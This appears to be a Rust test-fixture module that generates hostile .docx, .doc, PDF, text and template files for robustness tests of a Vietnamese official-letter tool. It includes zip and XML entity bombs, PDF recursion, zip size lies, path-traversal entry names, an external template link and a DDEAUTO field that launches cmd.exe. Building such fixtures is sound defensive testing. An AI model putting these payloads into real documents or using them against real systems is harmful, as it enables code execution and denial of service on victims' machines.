//! Hostile and broken files, built on demand (nothing large is committed): what a clerk's
//! worst day sends. Used by `tests/hostile.rs` and by `examples/hostile.rs`, which writes
//! them to a folder for measuring the release tool with `/usr/bin/time -v`.

use std::io::Write;

/// What a case is given to: the reader (`congvan parse`), the copier (`congvan sao-y`),
/// or the drafting with a template (`congvan forward --template`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Use {
    /// `congvan parse FILE`.
    Parse,
    /// `congvan sao-y FILE`, which must spend no number when it refuses.
    Copy,
    /// `congvan forward PARENT --template FILE`.
    Template,
    /// `congvan pdf FILE -o OUT.pdf`, which lays out again a letter the app wrote.
    Pdf,
}

/// One hostile case: its name, the file's name, its bytes, and what it is given to.
pub struct Case {
    pub name: &'static str,
    pub file: &'static str,
    pub bytes: Vec<u8>,
    pub uses: &'static [Use],
}

/// Every case.
pub fn all() -> Vec<Case> {
    use Use::*;
    let case = |name, file, bytes, uses| Case {
        name,
        file,
        bytes,
        uses,
    };
    vec![
        case(
            "footnote bomb",
            "footnote-bomb.docx",
            footnote_bomb(),
            &[Parse, Copy],
        ),
        case("< flood", "lt-flood.txt", vec![b'<'; 2 << 20], &[Parse]),
        case("& flood", "amp-flood.txt", vec![b'&'; 2 << 20], &[Parse]),
        case(
            "< flood in a .docx",
            "lt-flood.docx",
            flood_docx("&lt;"),
            &[Parse, Copy],
        ),
        case(
            "& flood in a .docx",
            "amp-flood.docx",
            flood_docx("&amp;"),
            &[Parse, Copy],
        ),
        case(
            "letter part inflating to 200 MB",
            "carried-bomb.docx",
            carried_bomb(),
            &[Pdf],
        ),
        case(
            "PDF drawing itself",
            "self-drawing.pdf",
            self_drawing_pdf(),
            &[Parse],
        ),
        case("PDF fanning out", "fan-out.pdf", fan_out_pdf(), &[Parse]),
        case(
            "zip size lie, 32-bit",
            "lie-32.docx",
            lie_32(),
            &[Parse, Copy],
        ),
        case(
            "zip size lie, 64-bit",
            "lie-64.docx",
            lie_64(),
            &[Parse, Copy],
        ),
        case("zip bomb", "zip-bomb.docx", zip_bomb(), &[Parse, Copy]),
        case(
            "many entries",
            "many-entries.docx",
            many_entries(),
            &[Parse, Copy],
        ),
        case(
            "drawing ids at the top",
            "ids-overflow.docx",
            ids_overflow(),
            &[Parse, Copy],
        ),
        case(
            "billion laughs",
            "laughs.docx",
            billion_laughs(),
            &[Parse, Copy],
        ),
        case("deep nesting", "deep.docx", deep_nesting(), &[Parse, Copy]),
        case("decoy main part", "decoy.docx", decoy(), &[Parse, Copy]),
        case(
            "duplicate entries",
            "duplicate.docx",
            duplicate(),
            &[Parse, Copy],
        ),
        case("external link", "external.docx", external(), &[Copy]),
        case(
            "INCLUDETEXT field",
            "includetext.docx",
            includetext(),
            &[Copy],
        ),
        case("DDE field", "dde.docx", dde(), &[Copy]),
        case("embedded object", "ole.docx", ole(), &[Copy]),
        case(
            "traversal names",
            "traversal.docx",
            traversal(),
            &[Parse, Copy],
        ),
        case(
            "recursive partials",
            "recursive.hbs",
            recursive_template(),
            &[Template],
        ),
        case(
            "exploding #each",
            "exploding.hbs",
            exploding_template(),
            &[Template],
        ),
        case(
            "PDF object stream bomb",
            "objstm-bomb.pdf",
            objstm_bomb(),
            &[Parse],
        ),
        case(
            "PDF array of millions",
            "array-flood.pdf",
            array_flood(),
            &[Parse],
        ),
        case(
            "PDF content flood",
            "content-flood.pdf",
            content_flood(),
            &[Parse],
        ),
        case(
            "Word 97 FAT loop",
            "fat-loop.doc",
            fat_loop(),
            &[Parse, Copy],
        ),
        case(
            "Word 97 piece past the end",
            "piece-lie.doc",
            piece_lie(),
            &[Parse, Copy],
        ),
        case(
            "Word 97 text flood",
            "text-flood.doc",
            text_flood_doc(),
            &[Parse, Copy],
        ),
        case(
            "citations flood",
            "citations-flood.txt",
            citations_flood(),
            &[Parse],
        ),
        case("huge paste", "huge-paste.txt", paste(1 << 20), &[Parse]),
        case(
            "oversized paste",
            "oversized-paste.txt",
            paste(10 << 20),
            &[Parse],
        ),
    ]
}

/// A plain directive's paragraphs, so that what is hostile is all that is wrong.
pub const PLAN: [&str; 7] = [
    "ỦY BAN NHÂN DÂN TỈNH TÂY NINH",
    "Số: 1062/KH-UBND",
    "Tây Ninh, ngày 11 tháng 4 năm 2024",
    "KẾ HOẠCH",
    "Phát động Phong trào thi đua năm 2024",
    "Nội dung kế hoạch.",
    "CHỦ TỊCH",
];

const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// Paragraphs of plain text as WordprocessingML.
pub fn paras(texts: &[&str]) -> String {
    texts
        .iter()
        .map(|t| format!("<w:p><w:r><w:t>{t}</w:t></w:r></w:p>"))
        .collect()
}

/// A `word/document.xml` whose body is `body`.
pub fn document(body: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}" xmlns:r="{REL}"><w:body>{body}</w:body></w:document>"#
    )
}

fn content_types(main: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>"#
    )
}

fn package_rels(main: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="{main}"/></Relationships>"#
    )
}

fn document_rels(extra: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId90" Type="{REL}/footnotes" Target="footnotes.xml"/>{extra}</Relationships>"#
    )
}

/// A zip of `entries`, deflated.
pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(entries, false)
}

fn zip_with(entries: &[(&str, &[u8])], large: bool) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    let mut w = zip::ZipWriter::new(&mut out);
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1))
        .large_file(large);
    for (name, data) in entries {
        w.start_file(*name, options).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap();
    out.into_inner()
}

/// A .docx of the plain plan with `body` added to it, `extra` relationships of the
/// document, and `more` entries.
pub fn docx_with(body: &str, extra_rels: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let document = document(&(paras(&PLAN) + body));
    let rels = document_rels(extra_rels);
    let types = content_types("word/document.xml");
    let package = package_rels("word/document.xml");
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", package.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", rels.as_bytes()),
    ];
    entries.extend_from_slice(more);
    zip(&entries)
}

/// The plan with a drawing whose id is the largest there is: the copy's own pictures
/// could take no id after it, which is found only when the copy is made.
fn ids_overflow() -> Vec<u8> {
    let drawing = r#"<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr id="4294967290" name="x"/></wp:inline></w:drawing></w:r></w:p>"#;
    docx_with(drawing, "", &[])
}

/// The plain plan as a .docx.
pub fn plan_docx() -> Vec<u8> {
    docx_with("", "", &[])
}

/// One footnote of 100 000 characters, cited 10 000 times: a gigabyte if each reference
/// copies it.
fn footnote_bomb() -> Vec<u8> {
    let note = "chú thích dài ".repeat(7_200);
    let notes = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W}"><w:footnote w:id="1"><w:p><w:r><w:t>{note}</w:t></w:r></w:p></w:footnote></w:footnotes>"#
    );
    let refs = r#"<w:r><w:footnoteReference w:id="1"/></w:r>"#.repeat(10_000);
    let body = format!("<w:p>{refs}</w:p>");
    docx_with(&body, "", &[("word/footnotes.xml", notes.as_bytes())])
}

/// A paragraph of a million `escaped` characters ("&lt;", "&amp;").
fn flood_docx(escaped: &str) -> Vec<u8> {
    let body = format!(
        "<w:p><w:r><w:t>{}</w:t></w:r></w:p>",
        escaped.repeat(1 << 20)
    );
    docx_with(&body, "", &[])
}

/// A PDF of `objects` (numbered from 1), the first the catalog.
fn pdf(objects: &[String]) -> Vec<u8> {
    let objects: Vec<Vec<u8>> = objects.iter().map(|o| o.as_bytes().to_vec()).collect();
    pdf_bytes(&objects)
}

fn stream(dict: &str, content: &str) -> String {
    format!(
        "<< {dict} /Length {} >>\nstream\n{content}\nendstream",
        content.len()
    )
}

/// A page with real text that draws form `/X1`, and the forms after it (objects 6…).
fn page_pdf(forms: Vec<String>) -> Vec<u8> {
    let text =
        "BT /F1 12 Tf 72 720 Td (Ke hoach phat dong phong trao thi dua nam 2024) Tj ET /X1 Do";
    let mut objects = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".to_string(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X1 6 0 R >> /Font << /F1 5 0 R >> >> /Contents 4 0 R >>".to_string(),
        stream("", text),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_string(),
    ];
    objects.extend(forms);
    pdf(&objects)
}

/// A form XObject that draws itself.
fn self_drawing_pdf() -> Vec<u8> {
    page_pdf(vec![stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X1 6 0 R >> >>",
        "/X1 Do",
    )])
}

/// Eight levels of forms, each drawing the next ten times: 10^8 drawings.
fn fan_out_pdf() -> Vec<u8> {
    let levels = 8;
    let forms = (0..levels)
        .map(|l| {
            let (resources, content) = if l + 1 < levels {
                (
                    format!("/Resources << /XObject << /X1 {} 0 R >> >>", 7 + l),
                    "/X1 Do ".repeat(10),
                )
            } else {
                (String::new(), "q Q".to_string())
            };
            stream(
                &format!("/Type /XObject /Subtype /Form /BBox [0 0 100 100] {resources}"),
                &content,
            )
        })
        .collect();
    page_pdf(forms)
}

/// Where the headers of entry `name` are in `zip`: the local header, then the central one.
fn headers(zip: &[u8], name: &str) -> (usize, usize) {
    let find = |sig: &[u8], name_at: usize| {
        (0..zip.len() - 4)
            .find(|&i| {
                zip[i..].starts_with(sig)
                    && zip.len() > i + name_at + name.len()
                    && &zip[i + name_at..i + name_at + name.len()] == name.as_bytes()
            })
            .unwrap()
    };
    (find(b"PK\x03\x04", 30), find(b"PK\x01\x02", 46))
}

/// The plan, its document's size in the directory claimed as 4 GB less two bytes.
fn lie_32() -> Vec<u8> {
    let mut zip = plan_docx();
    let (local, central) = headers(&zip, "word/document.xml");
    zip[local + 22..local + 26].copy_from_slice(&0xFFFF_FFFEu32.to_le_bytes());
    zip[central + 24..central + 28].copy_from_slice(&0xFFFF_FFFEu32.to_le_bytes());
    zip
}

/// The plan with zip64 sizes, its document's claimed as 2^40 bytes.
fn lie_64() -> Vec<u8> {
    let document = document(&paras(&PLAN));
    let types = content_types("word/document.xml");
    let package = package_rels("word/document.xml");
    let mut zip = zip_with(
        &[
            ("[Content_Types].xml", types.as_bytes()),
            ("_rels/.rels", package.as_bytes()),
            ("word/document.xml", document.as_bytes()),
        ],
        true,
    );
    let name = "word/document.xml";
    let (local, central) = headers(&zip, name);
    let huge = (1u64 << 40).to_le_bytes();
    // The zip64 extra field (id 1): the uncompressed size first.
    for (header, name_at, extra_len_at) in [(local, 30, 28), (central, 46, 30)] {
        let extra = header + name_at + name.len();
        let len = u16::from_le_bytes([zip[header + extra_len_at], zip[header + extra_len_at + 1]])
            as usize;
        let mut at = extra;
        while at + 4 <= extra + len {
            let id = u16::from_le_bytes([zip[at], zip[at + 1]]);
            let size = u16::from_le_bytes([zip[at + 2], zip[at + 3]]) as usize;
            if id == 1 && size >= 8 {
                zip[at + 4..at + 12].copy_from_slice(&huge);
            }
            at += 4 + size;
        }
    }
    zip
}

/// A document part that inflates to 200 MB, written a megabyte at a time so that building
/// it takes little memory (the test measures the tool's, which a large parent would
/// inflate).
fn zip_bomb() -> Vec<u8> {
    let types = content_types("word/document.xml");
    let package = package_rels("word/document.xml");
    let mut out = std::io::Cursor::new(Vec::new());
    let mut w = zip::ZipWriter::new(&mut out);
    let options = bomb_options();
    for (name, data) in [
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", package.as_bytes()),
    ] {
        w.start_file(name, options).unwrap();
        w.write_all(data).unwrap();
    }
    let document = document(&paras(&PLAN));
    let (head, tail) = document.split_at(document.find("</w:body>").unwrap());
    w.start_file("word/document.xml", options).unwrap();
    w.write_all(head.as_bytes()).unwrap();
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..200 {
        w.write_all(&spaces).unwrap();
    }
    w.write_all(tail.as_bytes()).unwrap();
    w.finish().unwrap();
    out.into_inner()
}

/// Fast deflate for a part of hundreds of megabytes.
fn bomb_options() -> zip::write::SimpleFileOptions {
    zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1))
        .large_file(true)
}

/// A .docx whose part carrying the app's letter inflates to 200 MB.
fn carried_bomb() -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    let mut w = zip::ZipWriter::new(&mut out);
    let options = bomb_options();
    let types = content_types("word/document.xml");
    let package = package_rels("word/document.xml");
    let document = document(&paras(&PLAN));
    for (name, data) in [
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", package.as_bytes()),
        ("word/document.xml", document.as_bytes()),
    ] {
        w.start_file(name, options).unwrap();
        w.write_all(data).unwrap();
    }
    w.start_file("customXml/item1.xml", options).unwrap();
    w.write_all(br#"<congvan:letter xmlns:congvan="urn:congvan:letter:1" document="0">"#)
        .unwrap();
    let letters = vec![b'A'; 1 << 20];
    for _ in 0..200 {
        w.write_all(&letters).unwrap();
    }
    w.write_all(b"</congvan:letter>").unwrap();
    w.finish().unwrap();
    out.into_inner()
}

/// Twenty thousand entries.
fn many_entries() -> Vec<u8> {
    let names: Vec<String> = (0..20_000)
        .map(|i| format!("word/media/x{i}.bin"))
        .collect();
    let more: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    docx_with("", "", &more)
}

/// Entities defined in the document's DOCTYPE, each ten of the one before.
fn billion_laughs() -> Vec<u8> {
    let mut dtd = String::from(r#"<!ENTITY lol0 "lol">"#);
    for i in 1..10 {
        dtd.push_str(&format!(
            r#"<!ENTITY lol{i} "{}">"#,
            format!("&lol{};", i - 1).repeat(10)
        ));
    }
    let xml = format!(
        r#"<?xml version="1.0"?><!DOCTYPE w:document [{dtd}]><w:document xmlns:w="{W}"><w:body>{}<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"#,
        paras(&PLAN)
    );
    let types = content_types("word/document.xml");
    let package = package_rels("word/document.xml");
    zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", package.as_bytes()),
        ("word/document.xml", xml.as_bytes()),
    ])
}

/// Paragraphs nested 200 000 deep (text boxes in text boxes).
fn deep_nesting() -> Vec<u8> {
    let n = 200_000;
    let body = format!(
        "{}<w:r><w:t>sâu</w:t></w:r>{}",
        "<w:p>".repeat(n),
        "</w:p>".repeat(n)
    );
    docx_with(&body, "", &[])
}

/// The package names `word/main.xml` as its main part; `word/document.xml` is a decoy
/// with other text.
fn decoy() -> Vec<u8> {
    let main = document(&paras(&PLAN));
    let decoy = document(&paras(&[
        "ỦY BAN NHÂN DÂN TỈNH KHÁC",
        "Số: 9999/KH-UBND",
        "KẾ HOẠCH",
        "Văn bản mồi",
    ]));
    let types = content_types("word/main.xml");
    let package = package_rels("word/main.xml");
    zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", package.as_bytes()),
        ("word/main.xml", main.as_bytes()),
        ("word/document.xml", decoy.as_bytes()),
    ])
}

/// Two entries named `word/document.xml`, the second with other text.
fn duplicate() -> Vec<u8> {
    let other = document(&paras(&["ỦY BAN NHÂN DÂN TỈNH KHÁC", "Văn bản thứ hai"]));
    let mut zip = docx_with("", "", &[("word/documenX.xml", other.as_bytes())]);
    // Renamed in both headers, so the directory holds the same name twice.
    let (local, central) = headers(&zip, "word/documenX.xml");
    for at in [local + 30, central + 46] {
        zip[at + "word/documen".len()] = b't';
    }
    zip
}

/// A template fetched from the network when the file is opened.
fn external() -> Vec<u8> {
    let rel = format!(
        r#"<Relationship Id="rId91" Type="{REL}/attachedTemplate" Target="http://example.invalid/x.dotm" TargetMode="External"/>"#
    );
    docx_with("", &rel, &[])
}

/// A field that pulls another file's text into the document.
fn includetext() -> Vec<u8> {
    let field = r#"<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\bi-mat.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"#;
    docx_with(field, "", &[])
}

/// A DDE field that starts a program.
fn dde() -> Vec<u8> {
    let field = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
    docx_with(field, "", &[])
}

/// An embedded OLE object.
fn ole() -> Vec<u8> {
    let rel = format!(
        r#"<Relationship Id="rId92" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/>"#
    );
    let object = r#"<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package" r:id="rId92"/></w:object></w:r></w:p>"#;
    docx_with(
        object,
        &rel,
        &[(
            "word/embeddings/oleObject1.bin",
            b"\xd0\xcf\x11\xe0 not really",
        )],
    )
}

/// Entries whose names climb out of the folder they are written to.
fn traversal() -> Vec<u8> {
    docx_with(
        "",
        "",
        &[
            ("../../../tmp/congvan-traversal.txt", b"x"),
            ("/etc/congvan.txt", b"x"),
        ],
    )
}

/// A template whose inline partials call each other.
fn recursive_template() -> Vec<u8> {
    let body = r#"{{#*inline "a"}}{{> b}}{{/inline}}{{#*inline "b"}}{{> a}}{{/inline}}{{> a}}"#;
    template(body, "")
}

/// A template whose `#each` blocks nest six deep over a list of a hundred: 10^12 rounds.
fn exploding_template() -> Vec<u8> {
    let items: Vec<String> = (0..100).map(|i| format!("\"m{i}\"")).collect();
    let open = "{{#each @root.items}}".repeat(5);
    let close = "{{/each}}".repeat(6);
    let body = format!("{{{{#each items}}}}{open}x{close}");
    template(&body, &format!("items = [{}]", items.join(", ")))
}

fn template(body: &str, defaults: &str) -> Vec<u8> {
    format!(
        "+++\nname = \"Mẫu độc\"\ndoc_type = \"Công văn\"\nsubject = \"triển khai {{{{parent.topic}}}}\"\n\n[defaults]\n{defaults}\n+++\n{body}\n"
    )
    .into_bytes()
}

/// `size` bytes of pasted text: a plan's opening, then sentence after sentence.
fn paste(size: usize) -> Vec<u8> {
    let mut text = PLAN.join("\n");
    text.push('\n');
    let sentence = "Căn cứ Kế hoạch số 12/KH-UBND ngày 01/02/2024 của Ủy ban nhân dân tỉnh về việc thực hiện nhiệm vụ, các đơn vị triển khai thực hiện nghiêm túc. ";
    while text.len() + sentence.len() < size {
        text.push_str(sentence);
    }
    text.into_bytes()
}

/// A PDF of 500 KB whose object stream inflates to 512 MB.
fn objstm_bomb() -> Vec<u8> {
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(b"7 0 ").unwrap();
    let zeros = vec![b' '; 1 << 20];
    for _ in 0..512 {
        z.write_all(&zeros).unwrap();
    }
    let data = z.finish().unwrap();
    let mut objects: Vec<Vec<u8>> = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>".to_vec(),
        stream("", "BT ET").into_bytes(),
        b"<< >>".to_vec(),
    ];
    let mut obj = format!(
        "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
        data.len()
    )
    .into_bytes();
    obj.extend_from_slice(&data);
    obj.extend_from_slice(b"\nendstream");
    objects.push(obj);
    pdf_bytes(&objects)
}

/// A PDF of 16 MB whose one object is an array of eight million numbers.
fn array_flood() -> Vec<u8> {
    let mut array = b"[".to_vec();
    array.extend(std::iter::repeat_n(*b"0 ", 8 << 20).flatten());
    array.push(b']');
    let objects: Vec<Vec<u8>> = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>".to_vec(),
        stream("", "BT ET").into_bytes(),
        array,
    ];
    pdf_bytes(&objects)
}

/// A page whose content inflates to 30 MB of glyphs shown one by one.
fn content_flood() -> Vec<u8> {
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(b"BT /F1 12 Tf 72 720 Td ").unwrap();
    let show = b"(Ke hoach) Tj ".repeat(1 << 16);
    for _ in 0..32 {
        z.write_all(&show).unwrap();
    }
    z.write_all(b"ET").unwrap();
    let data = z.finish().unwrap();
    let mut content = format!(
        "<< /Filter /FlateDecode /Length {} >>\nstream\n",
        data.len()
    )
    .into_bytes();
    content.extend_from_slice(&data);
    content.extend_from_slice(b"\nendstream");
    let objects: Vec<Vec<u8>> = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>".to_vec(),
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
    ];
    pdf_bytes(&objects)
}

/// A PDF of raw `objects` (numbered from 1), the first the catalog.
fn pdf_bytes(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.5\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A Word 97 document whose main text is `units` (UTF-16), in one piece of `claimed`
/// characters at byte `at` of its WordDocument stream (at the text itself when none).
fn word97(units: &[u16], claimed: Option<u32>, at: Option<u32>) -> Vec<u8> {
    let mut word = vec![0u8; 1024];
    word[0..2].copy_from_slice(&0xA5ECu16.to_le_bytes());
    word[2..4].copy_from_slice(&0x00C1u16.to_le_bytes());
    word[0x0A..0x0C].copy_from_slice(&0x0200u16.to_le_bytes());
    let count = claimed.unwrap_or(units.len() as u32);
    word[76..80].copy_from_slice(&count.to_le_bytes());
    let text_at = at.unwrap_or(word.len() as u32);
    word.extend(units.iter().flat_map(|u| u.to_le_bytes()));
    let mut table = vec![0u8; 16];
    table.push(0x02);
    table.extend(16u32.to_le_bytes());
    table.extend(0u32.to_le_bytes());
    table.extend(count.to_le_bytes());
    table.extend([0, 0]);
    table.extend(text_at.to_le_bytes());
    table.extend([0, 0]);
    let clx_len = (table.len() - 16) as u32;
    word[154 + 33 * 8..154 + 33 * 8 + 4].copy_from_slice(&16u32.to_le_bytes());
    word[154 + 33 * 8 + 4..154 + 33 * 8 + 8].copy_from_slice(&clx_len.to_le_bytes());
    // Version 3: 512-byte sectors, as Word 97–2003 writes them.
    let mut file =
        cfb::CompoundFile::create_with_version(cfb::Version::V3, std::io::Cursor::new(Vec::new()))
            .unwrap();
    for (name, data) in [("WordDocument", &word), ("1Table", &table)] {
        let mut s = file.create_stream(name).unwrap();
        s.write_all(data).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// The plan's text as a Word 97 document's characters.
fn plan_units() -> Vec<u16> {
    PLAN.join("\r").encode_utf16().collect()
}

/// A Word 97 document whose WordDocument stream's sectors loop back on themselves.
fn fat_loop() -> Vec<u8> {
    let mut units = plan_units();
    // Past 4096 bytes the stream lives in the file's own sectors, not the mini stream.
    units.extend(std::iter::repeat_n(b' ' as u16, 4096));
    let mut bytes = word97(&units, None, None);
    let u32_at = |b: &[u8], at: usize| u32::from_le_bytes([b[at], b[at + 1], b[at + 2], b[at + 3]]);
    let sector = |n: u32| 512 * (n as usize + 1);
    let fat = sector(u32_at(&bytes, 0x4C));
    let dir = sector(u32_at(&bytes, 0x30));
    let name: Vec<u8> = "WordDocument"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let entry = (0..16)
        .map(|k| dir + 128 * k)
        .find(|&e| bytes[e..e + name.len()] == name[..])
        .unwrap();
    let first = u32_at(&bytes, entry + 0x74);
    // Its second sector leads back to its first.
    let second = u32_at(&bytes, fat + 4 * first as usize);
    bytes[fat + 4 * second as usize..fat + 4 * second as usize + 4]
        .copy_from_slice(&first.to_le_bytes());
    bytes
}

/// A Word 97 document whose piece table puts its text far past the end of the file.
fn piece_lie() -> Vec<u8> {
    word97(&plan_units(), Some(0x0FFF_FFFF), Some(0x3000_0000))
}

/// A Word 97 document of twelve million characters.
fn text_flood_doc() -> Vec<u8> {
    let mut units = plan_units();
    units.extend(std::iter::repeat_n(b'a' as u16, 6 << 20));
    word97(&units, None, None)
}

/// A pasted text of 40,000 citations, each a sentence of its own.
fn citations_flood() -> Vec<u8> {
    let mut text = PLAN.join("\n");
    text.push('\n');
    text.push_str("Căn cứ ");
    text.push_str(&"x Kế hoạch 1/KH-B x ".repeat(40_000));
    text.into_bytes()
}
